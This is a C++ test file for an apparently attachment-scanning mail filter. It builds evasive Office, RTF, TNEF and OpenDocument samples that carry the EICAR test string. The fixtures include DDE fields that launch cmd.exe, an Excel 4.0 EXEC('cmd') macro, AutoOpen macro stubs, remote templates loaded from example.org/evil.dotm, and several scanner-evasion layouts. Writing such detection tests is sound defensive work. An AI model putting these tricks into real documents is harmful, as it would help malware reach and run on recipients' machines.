// SPDX-License-Identifier: MIT
#include "hostile/recipe.h"
#include "support/office/crypt_samples.h"
#include "support/office/ole_samples.h"
#include "support/office/tnef_writer.h"
#include "support/office/xor_samples.h"

namespace postern::testing {
namespace {

using namespace std::string_literals;
using Marks = std::vector<std::string>;
using Bytes = std::function<std::string()>;

// The catalogue while it grows: each adds one attachment to a mail.
class Catalogue {
 public:
  Catalogue& type(std::string type, std::string name) {  // of the attachments that follow
    type_ = std::move(type);
    name_ = std::move(name);
    return *this;
  }
  Catalogue& add(std::string name, std::string trick, Bytes attachment, Marks marks = {}) {
    return put(std::move(name), std::move(trick), std::move(attachment), eicar(), std::move(marks), "infected");
  }
  // Nothing evil is inside, or nobody can see it.
  Catalogue& add_marked(std::string name, std::string trick, Bytes attachment, Marks marks, std::string category) {
    return put(std::move(name), std::move(trick), std::move(attachment), "", std::move(marks), std::move(category));
  }
  std::vector<Recipe> take() { return std::move(all_); }

 private:
  Catalogue& put(std::string name, std::string trick, Bytes attachment, std::string payload, Marks marks,
                 std::string category) {
    const auto mail = [type = type_, file = name_, attachment = std::move(attachment)] {
      return mail_with("Minutes", {{type, file, attachment()}});
    };
    all_.push_back(
        {std::move(name), std::move(trick), mail, std::move(payload), std::move(marks), std::move(category)});
    return *this;
  }

  std::string type_, name_;
  std::vector<Recipe> all_;
};

void add_tnef(Catalogue& all) {
  all.type("application/ms-tnef", "winmail.dat");
  all.add("tnef-attachment", "an attachment that only Outlook shows",
          [] { return TnefWriter().rendering().data(hidden()).title("evil.com").bytes(); });
  all.add("tnef-nested", "a mail in the mail, as a TNEF stream in a property of an attachment", [] {
    const std::string inner = TnefWriter().rendering().title("evil.com").data(hidden()).bytes();
    const std::string middle = TnefWriter().rendering().properties(MapiProperties().message(0x3701, inner)).bytes();
    return TnefWriter().rendering().properties(MapiProperties().message(0x3701, middle)).bytes();
  });
  all.add("tnef-bad-checksum", "readers that check stop before the payload",
          [] {
            const Lies lies{{}, 9};
            return TnefWriter().rendering().title("a.txt").data("a", lies).rendering().data(hidden(), lies).bytes();
          },
          {"tnef-checksum"});
  for (const uint32_t length : {0x80000000u, 0xFFFFFFFFu, 0x00FFFFFFu})
    all.add("tnef-length-" + std::to_string(length), "a length that is negative for some and too long for all",
            [length] {
              return TnefWriter().rendering().title("evil.com").data(hidden(), {length, {}}).bytes();
            },
            {"tnef-truncated"});
  all.add("tnef-data-before-name", "the data stands before anything that begins an attachment",
          [] { return TnefWriter().data(hidden()).title("evil.com").rendering().bytes(); });
  all.add("tnef-two-contents", "an attachment with two contents, of which readers show one or the other", [] {
    const MapiProperties second = MapiProperties().binary(0x3701, hidden());
    return TnefWriter().rendering().title("a.txt").data("harmless").properties(second).bytes();
  });
  // Compressed once more, since ZIP files are found wherever they stand.
  all.add("tnef-zip", "three decoders deep", [] {
    return TnefWriter().rendering().title("a.zip.gz").data(gzip(zip({{"evil.com", eicar()}}))).bytes();
  });
  all.add("tnef-gap", "payload behind the last attribute",
          [] { return TnefWriter().rendering().title("a.txt").data("a").raw(hidden()).bytes(); },
          {"tnef-no-attribute"});
  all.type("text/calendar", "invite.ics");
  all.add("tnef-wrong-type", "a decoder that goes by the declared type does not open it",
          [] { return TnefWriter().rendering().data(hidden()).title("evil.com").bytes(); });
}

// Bytes that are spread over several sectors, so that only who follows the chain has them in one piece.
std::string spread(const std::string& payload) {
  return std::string(5000, '.') + payload + std::string(300, '.');
}

void add_ole(Catalogue& all) {
  all.type("application/msword", "letter.doc");
  all.add("ole-stream", "payload in a stream whose sectors stand in the wrong order", [] {
    return CfbWriter()
        .scattered()
        .stream("WordDocument", word_document("text"))
        .stream("Data", std::string(4070, '.') + eicar())
        .bytes();
  });
  all.add("ole-small-stream", "payload in a small stream, whose pieces of 64 bytes stand in the wrong order",
          [] { return CfbWriter().scattered().stream("Contents", eicar()).bytes(); });
  all.add("ole-package", "a program dropped into a document", [] {
    return CfbWriter().scattered().stream("ObjectPool/_1/\1Ole10Native", ole10_native("evil.com", hidden())).bytes();
  });
  all.add("ole-package-zip", "a document of 2007 inside a document of 1997", [] {
    return CfbWriter()
        .scattered()
        .stream("MBD00000001/Package", zip({{"[Content_Types].xml", ""}, {"word/media/a.com", hidden()}}))
        .bytes();
  });
  all.add(
      "ole-macro", "payload in the source of a macro, compressed",
      [] {
        CfbWriter file;
        file.stream("WordDocument", word_document("text"));
        return add_project(file, "Macros/", {{"Module1", "Sub AutoOpen()\r\n'" + eicar() + "\r\nEnd Sub\r\n"}}).bytes();
      },
      {"ole-vba-macro"});
  all.add("ole-macro-unlisted", "a VBA project whose list of modules is missing",
          [] {
            CfbWriter file;
            return add_project(file, "Macros/", {{"Module1", "'" + eicar() + "\r\n"}}, false).bytes();
          },
          {"ole-vba-macro"});
  all.add("ole-presentation", "a document inside a presentation, compressed", [] {
    const std::string inner =
        CfbWriter().scattered().stream("\1Ole10Native", ole10_native("evil.com", hidden())).bytes();
    return CfbWriter().stream("PowerPoint Document", presentation(inner, true)).bytes();
  });
  all.add("ole-orphan", "a stream that no storage lists",
          [] {
            return CfbWriter()
                .stream("a/b", hidden())
                .forge("a", [](std::string& entry) { entry.replace(76, 4, "\xff\xff\xff\xff"); })
                .bytes();
          },
          {"ole-orphan"});
  all.add("ole-loop", "a directory and a chain of sectors that go round in circles",
          [] {
            return CfbWriter()
                .stream("a", std::string(5000, '.'))
                .stream("dir/b", hidden())
                .forge("dir", [](std::string& entry) { entry.replace(72, 4, std::string("\1\0\0\0", 4)); })
                .forge("a", [](std::string& entry) { entry.replace(120, 4, "\xff\xff\xff\x7f"); })
                .forge_fat([](std::vector<uint32_t>& fat) { fat[3] = 0; })
                .bytes();
          },
          {"ole-directory", "ole-chain"});
  all.add_marked(
      "ole-overlap", "a thousand streams on the same sectors",
      [] {
        CfbWriter file;
        file.stream("first", std::string(200000, 'x'));
        for (int n = 0; n < 1000; ++n)
          file.stream("s" + std::to_string(n), "x").forge("s" + std::to_string(n), [](std::string& entry) {
            entry.replace(116, 8, little(0, 4) + little(200000, 4));
          });
        return file.bytes();
      },
      {"ole-overlap"}, "over-limit");
  all.add_marked(
      "ole-encrypted-word", "a document that needs a password",
      [] { return CfbWriter().stream("WordDocument", word_document("noise", true)).bytes(); }, {"ole-encrypted"},
      "encrypted");
  all.add_marked(
      "ole-encrypted-powerpoint", "a presentation that needs a password",
      [] { return CfbWriter().stream("EncryptedSummary", "noise").bytes(); }, {"ole-encrypted"}, "encrypted");

  all.type("application/vnd.ms-excel", "book.xls");
  all.add_marked(
      "ole-xlm", "macros of Excel 4.0 on a hidden sheet",
      [] {
        return CfbWriter().stream("Workbook", workbook({{"a"}, {"m", true, true}})).bytes();
      },
      {"ole-xlm-macro"}, "clean");
  for (const unsigned bits : {0u, 40u, 128u})
    all.add("ole-excel-password-" + std::to_string(bits), "Excel opens it without a question: the password is its own",
            [bits] {
              const std::string book = workbook({{"a"}}, spread(eicar()));
              return CfbWriter()
                  .stream("Workbook", bits == 0 ? encrypted_workbook_rc4(book, default_password)
                                                : encrypted_workbook_crypto_api(book, default_password, bits))
                  .bytes();
            },
            {"ole-default-password"});
  for (const ExcelAge age : {ExcelAge::of_95, ExcelAge::of_97})
    all.add(age == ExcelAge::of_95 ? "ole-excel-xor-95" : "ole-excel-xor",
            "hidden in the oldest way, with Excel's own password: sixteen bytes made of it, over and over",
            [age] {
              const std::string book = xor_workbook(workbook({{"a"}}, spread(eicar())), default_password, age);
              return CfbWriter().stream(age == ExcelAge::of_95 ? "Book" : "Workbook", book).bytes();
            },
            {"ole-default-password"});
  all.add_marked(
      "ole-encrypted-xor", "hidden in the oldest way, with a password of its own",
      [] { return CfbWriter().stream("Workbook", xor_workbook(workbook({{"a"}}), "another")).bytes(); },
      {"ole-encrypted"}, "encrypted");
  all.add_marked(
      "ole-encrypted-excel", "a workbook with a password of its own",
      [] { return CfbWriter().stream("Workbook", encrypted_workbook_rc4(workbook({{"a"}}), "another")).bytes(); },
      {"ole-encrypted"}, "encrypted");

  all.type("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "book.xlsx");
  const auto book = [] { return zip({{"[Content_Types].xml", "<Types/>"}, {"xl/media/evil.com", hidden()}}); };
  all.add("ole-agile-password", "a whole workbook of 2010, encrypted with Excel's own password",
          [book] { return agile_document(book(), default_password); }, {"ole-default-password"});
  all.add("ole-standard-password", "a whole workbook of 2007, encrypted with Excel's own password",
          [book] { return standard_document(book(), default_password); }, {"ole-default-password"});
  all.add("ole-powerpoint-password", "encrypted with the password that PowerPoint tries by itself",
          [book] { return agile_document(book(), "/01Hannes Ruescher/01"); }, {"ole-default-password"});
  all.add_marked(
      "ole-encrypted-agile", "a document of 2010 with a password of its own",
      [book] { return agile_document(book(), "another"); }, {"ole-encrypted"}, "encrypted");
  all.add_marked(
      "ole-encrypted-standard", "a document of 2007 with a password of its own",
      [book] { return standard_document(book(), "another"); }, {"ole-encrypted"}, "encrypted");
  all.add_marked(
      "ole-password-rounds", "a number of rounds that is not the one the key was made with",
      [] {
        std::string file = agile_document("PK", "another", 1000);
        const size_t at = file.find("spinCount=\"1000\"");
        return file.replace(at, 16, "spinCount=\"9999\"");
      },
      {"ole-encrypted"}, "encrypted");

  all.type("application/vnd.ms-outlook", "mail.msg");
  all.add("msg-attachment", "an attachment of a message that is attached as a file", [] {
    CfbWriter file;
    add_message(file.scattered(), "", "the text");
    add_attachment(file, "", 0, {"evil.com", "EVIL.COM", "text/plain", eicar()});
    return file.bytes();
  });
  all.add("msg-nested", "a message in a message in a message", [] {
    CfbWriter file;
    std::string path;
    for (int level = 0; level < 3; ++level) {
      add_message(file, path, "the text");
      path = add_attachment(file, path, 0, {"inner.msg", "", "", ""}) + "/__substg1.0_3701000D/";
    }
    add_message(file, path, "the text");
    add_attachment(file, path, 0, {"evil.com", "", "", hidden()});
    return file.bytes();
  });
  all.add("msg-object", "a document object in a message, as a storage", [] {
    CfbWriter file;
    add_message(file, "", "the text");
    const std::string object = add_attachment(file, "", 0, {"object", "", "", ""}) + "/__substg1.0_3701000D/";
    file.stream(object + "\1Ole10Native", ole10_native("evil.com", hidden()));
    return file.bytes();
  });

  all.type("image/png", "picture.png");
  all.add("ole-wrong-type", "a decoder that goes by the declared type does not open it",
          [] { return CfbWriter().scattered().stream("Contents", eicar()).bytes(); });
  all.type("application/ms-tnef", "winmail.dat");
  all.add("tnef-ole", "an object embedded in a TNEF stream", [] {
    const std::string object =
        CfbWriter().scattered().stream("\1Ole10Native", ole10_native("evil.com", hidden())).bytes();
    return TnefWriter().rendering().properties(MapiProperties().storage(0x3701, object)).bytes();
  });
}

std::string hex(std::string_view bytes) {
  constexpr char digits[] = "0123456789abcdef";
  std::string out;
  for (const char c : bytes) (out += digits[static_cast<unsigned char>(c) >> 4]) += digits[c & 15];
  return out;
}

std::string rtf_with(const std::string& object_data) {
  return "{\\rtf1\\ansi text {\\object\\objemb{\\*\\objclass Package}{\\*\\objdata " + object_data + "}{\\result x}}}";
}

// Something between the digits, every few of them.
std::string interrupted(const std::string& digits, const std::string& by) {
  std::string out;
  for (size_t n = 0; n < digits.size(); n += 6) out += digits.substr(n, 6) + by;
  return out;
}

void add_rtf(Catalogue& all) {
  const auto dropped = [] { return old_object("Package", package("evil.com", hidden())); };
  all.type("application/rtf", "letter.rtf");
  all.add("rtf-package", "a program dropped into a text", [=] { return rtf_with(hex(dropped())); });
  all.add("rtf-ole-file", "an OLE file inside the text", [] {
    const std::string file =
        CfbWriter().scattered().stream("_1/\1Ole10Native", ole10_native("evil.com", hidden())).bytes();
    return rtf_with(hex(old_object("Word.Document.8", file)));
  });
  all.add("rtf-blanks", "blanks and line ends between the digits",
          [=] { return rtf_with(interrupted(hex(dropped()), " \r\n\t")); });
  all.add("rtf-controls", "controls between the digits, known and unknown",
          [=] { return rtf_with(interrupted(hex(dropped()), "\\par\\xyzzy-17 \\'41\\~")); });
  all.add("rtf-groups", "groups with digits of their own between the digits",
          [=] { return rtf_with(interrupted(hex(dropped()), "{\\*\\abc 4f}")); }, {"rtf-object-readings"});
  all.add("rtf-inner-group", "the digits stand in groups inside the group of the data",
          [=] { return rtf_with("{{" + interrupted(hex(dropped()), "}{") + "}}"); });
  all.add("rtf-bin", "the data as raw bytes", [=] {
    const std::string data = dropped();
    return rtf_with("\\bin" + std::to_string(data.size()) + " " + data);
  });
  all.add("rtf-half-byte", "a digit too many in front", [=] { return rtf_with("f" + hex(dropped())); },
          {"rtf-object-readings"});
  all.add("rtf-no-end", "a text that ends in the middle of the object", [=] {
    const std::string text = rtf_with(hex(dropped()));
    return text.substr(0, text.size() - 14);
  });
  all.add("rtf-two-data", "the data begins twice", [=] { return rtf_with("\\objdata " + hex(dropped())); });
  all.add("rtf-data-in-data", "an object in the data of an object",
          [=] { return rtf_with("0105{\\*\\objdata " + hex(dropped()) + "}"); }, {"rtf-object-readings"});
  all.add("rtf-shortest-header", "Word wants to see no more than {\\rt", [=] {
    std::string text = rtf_with(hex(dropped()));
    return text.replace(0, 6, "{\\rtx");
  });
  all.add("rtf-groups-million", "a million groups before the object",
          [=] { return "{\\rtf1" + std::string(1000000, '{') + rtf_with(hex(dropped())); });
  all.add_marked(
      "rtf-template", "a template from elsewhere, whose macros run",
      [] { return std::string("{\\rtf1{\\*\\template http://example.org/evil.dotm}}"); }, {"rtf-remote-template"},
      "clean");
  all.add_marked(
      "rtf-dde", "a field that starts a program",
      [] { return std::string("{\\rtf1{\\field{\\*\\fldinst DDEAUTO c:\\\\cmd.exe}{\\fldrslt x}}}"); },
      {"rtf-dde-field"}, "clean");
  all.type("application/msword", "letter.doc");
  all.add("rtf-wrong-type", "a text that says it is a document", [=] { return rtf_with(hex(dropped())); });
  all.type("application/ms-tnef", "winmail.dat");
  all.add("tnef-rtf-object", "an object in the compressed text of a message", [=] {
    return TnefWriter().message(MapiProperties().binary(0x1009, compressed_rtf(rtf_with(hex(dropped()))))).bytes();
  });
  all.add("tnef-stored-rtf-object", "the same, not compressed", [=] {
    return TnefWriter().message(MapiProperties().binary(0x1009, stored_rtf(rtf_with(hex(dropped()))))).bytes();
  });
  all.type("application/vnd.ms-outlook", "mail.msg");
  all.add("msg-rtf-object", "an object in the compressed text of a message file", [=] {
    CfbWriter file;
    add_message(file, "", "the text").stream("__substg1.0_10090102", compressed_rtf(rtf_with(hex(dropped()))));
    return file.bytes();
  });
}

// A document of one member beside the list of types.
std::string document_with(const std::string& name, const std::string& content) {
  const std::string types =
      "<?xml version=\"1.0\"?><Types><Default Extension=\"xml\" ContentType=\"application/xml\"/></Types>";
  return zip({{"[Content_Types].xml", types}, {name, content}});
}

std::string external(const std::string& type, const std::string& target) {
  return "<?xml version=\"1.0\"?><Relationships><Relationship Id=\"r1\" "
         "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/" +
         type + "\" Target=\"" + target + "\" TargetMode=\"External\"/></Relationships>";
}

void add_ooxml(Catalogue& all) {
  all.type("application/vnd.openxmlformats-officedocument.wordprocessingml.document", "letter.docx");
  all.add("ooxml-macro", "a document with macros that is called one without",
          [] {
            CfbWriter project;
            add_project(project, "", {{"ThisDocument", "Sub AutoOpen()\r\n'" + eicar() + "\r\nEnd Sub\r\n"}});
            return document_with("word/vbaProject.bin", project.bytes());
          },
          {"ole-vba-macro"});
  all.add("ooxml-package", "a program dropped into a document of 2007", [] {
    const std::string object =
        CfbWriter().scattered().stream("\1Ole10Native", ole10_native("evil.com", hidden())).bytes();
    return document_with("word/embeddings/oleObject1.bin", object);
  });
  all.add("ooxml-flat", "the document as one XML file, its binary part in base64",
          [] {
            CfbWriter project;
            add_project(project, "", {{"ThisDocument", "'" + eicar() + "\r\n"}});
            return "<?xml version=\"1.0\"?><pkg:package><pkg:part pkg:name=\"/word/vbaProject.bin\"><pkg:binaryData>" +
                   base64(project.bytes()) + "</pkg:binaryData></pkg:part></pkg:package>";
          },
          {"ole-vba-macro"});
  const auto add_marked = [&](const std::string& name, const std::string& trick, const std::string& member,
                              const std::string& content, const std::string& mark, const std::string& category) {
    all.add_marked(
        name, trick, [=] { return document_with(member, content); }, {mark}, category);
  };
  add_marked("ooxml-template", "the macros stand in a template from elsewhere", "word/_rels/settings.xml.rels",
             external("attachedTemplate", "http://example.org/evil.dotm"), "ooxml-remote-template", "clean");
  add_marked("ooxml-template-utf16", "the same in UTF-16", "word/_rels/settings.xml.rels",
             "\xff\xfe" + utf16(external("attachedTemplate", "http://example.org/evil.dotm")), "ooxml-remote-template",
             "clean");
  add_marked("ooxml-object", "an object from elsewhere", "word/_rels/document.xml.rels",
             external("oleObject", "mhtml:http://example.org/x!x-usc:http://example.org/x"), "ooxml-remote-object",
             "clean");
  add_marked("ooxml-frame", "a frame from elsewhere", "word/_rels/webSettings.xml.rels",
             external("frame", "http://example.org/"), "ooxml-remote-frame", "clean");
  add_marked("ooxml-dde", "a field that starts a program, in pieces", "word/document.xml",
             "<?xml version=\"1.0\"?><w:document><w:fldChar "
             "w:fldCharType=\"begin\"/><w:instrText>DDE</w:instrText><w:instrText>AUTO "
             "c:\\cmd.exe</w:instrText><w:fldChar w:fldCharType=\"end\"/></w:document>",
             "ooxml-dde-field", "clean");
  all.type("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "book.xlsx");
  add_marked("ooxml-xlm", "macros of Excel 4.0", "xl/macrosheets/sheet1.xml",
             "<?xml version=\"1.0\"?><xm:macrosheet><f>EXEC(\"cmd\")</f></xm:macrosheet>", "ooxml-xlm-macro", "clean");
  add_marked("ooxml-dde-link", "a link that starts a program", "xl/externalLinks/externalLink1.xml",
             "<?xml version=\"1.0\"?><externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>",
             "ooxml-dde-link", "clean");
  all.type("application/vnd.oasis.opendocument.text", "letter.odt");
  add_marked("odf-encrypted", "an OpenDocument file with a password", "META-INF/manifest.xml",
             "<?xml "
             "version=\"1.0\"?><manifest:manifest><manifest:file-entry><manifest:encryption-data/></"
             "manifest:file-entry></manifest:manifest>",
             "odf-encrypted", "encrypted");
  add_marked(
      "odf-macro", "macros in an OpenDocument file", "Basic/Standard/Module1.xml",
      "<?xml version=\"1.0\"?><script:module script:name=\"M\" script:language=\"StarBasic\">Sub Main</script:module>",
      "odf-macro", "clean");
}

}  // namespace

std::vector<Recipe> office_recipes() {
  Catalogue all;
  add_tnef(all);
  add_ole(all);
  add_rtf(all);
  add_ooxml(all);
  return all.take();
}

}  // namespace postern::testing
